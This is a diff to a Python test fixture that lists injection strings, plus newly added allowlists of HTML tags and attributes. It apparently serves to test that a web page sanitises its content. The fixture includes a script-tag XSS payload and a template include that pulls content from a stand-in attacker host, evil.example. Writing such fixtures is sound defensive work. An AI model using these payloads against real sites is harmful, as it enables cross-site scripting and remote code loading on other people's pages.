@@ -1,4 +1,7 @@
-"""Known ways to make a page run or load what a text says, each harmless: it would set `window.pwned`."""
+"""Known ways to make a page run or load what a text says, each harmless: it would set `window.pwned`.
+
+And what the page is made of, whatever it shows.
+"""
 
 TRICKS = [
     "<script>window.pwned=1</script>",
@@ -161,3 +164,19 @@ TRICKS = [
     "@children",
     "{% include 'http://evil.example/' %}",
 ]
+
+# fmt: off
+TAGS = {
+    "article", "b", "bdi", "blockquote", "br", "button", "code", "datalist", "del", "details", "div", "fieldset",
+    "footer", "form", "h1", "h2", "h3", "h4", "header", "i", "img", "input", "label", "legend", "li", "mark", "nav",
+    "ol", "option", "p", "pre", "progress", "section", "select", "span", "strong", "summary", "sup", "textarea", "ul",
+}
+ATTRIBUTES = {
+    "alt", "aria-busy", "aria-current", "aria-describedby", "aria-hidden", "aria-label", "aria-pressed",
+    "autocomplete", "checked", "class", "data-conversation", "data-done", "data-drawer", "data-event", "data-failed",
+    "data-format", "data-id", "data-language", "data-n", "data-place", "data-question", "data-source", "data-state",
+    "data-turn", "data-verdict", "data-vote", "dir", "disabled", "for", "hidden", "id", "list", "max", "maxlength",
+    "min", "name", "placeholder", "required", "role", "rows", "selected", "spellcheck", "start", "tabindex", "title",
+    "type", "value",
+}
+# fmt: on
